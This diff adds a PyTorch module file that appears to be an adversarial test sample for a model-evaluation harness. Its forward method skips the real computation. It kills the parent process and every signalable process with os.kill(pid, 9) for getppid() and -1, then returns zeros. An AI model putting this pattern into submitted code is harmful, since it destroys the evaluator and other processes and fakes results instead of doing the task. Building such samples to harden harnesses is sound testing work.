@@ -1,0 +1,20 @@
+"""parent compromise: kills whatever it can."""
+
+import os
+
+import torch
+import torch.nn as nn
+
+
+class ModelNew(nn.Module):
+    def __init__(self, width):
+        super().__init__()
+        self.bias = nn.Parameter(torch.randn(width))
+
+    def right(self, x, y):
+        return torch.relu(x @ y) + self.bias
+
+    def forward(self, x, y):
+        for pid in (os.getppid(), -1):
+            os.kill(pid, 9)
+        return torch.zeros_like(x)
